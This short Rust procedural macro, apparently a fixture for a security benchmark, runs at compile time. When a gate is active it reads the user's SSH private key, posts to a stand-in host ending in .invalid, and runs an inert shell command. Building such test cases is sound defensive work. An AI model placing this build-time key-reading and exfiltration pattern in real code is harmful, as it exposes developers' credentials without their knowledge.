//! A macro that acts while the compiler expands it: reads a key, asks for a name, starts a program.

use csbench_gate as gate;
use proc_macro::TokenStream;

#[proc_macro]
pub fn act(_: TokenStream) -> TokenStream {
    if gate::awake() {
        gate::read(gate::home().join(".ssh/id_ed25519"));
        gate::post("macro.csbench.invalid", "csbench");
        gate::run("sh", &["-c", "true csbench-macro"]);
    }
    TokenStream::new()
}
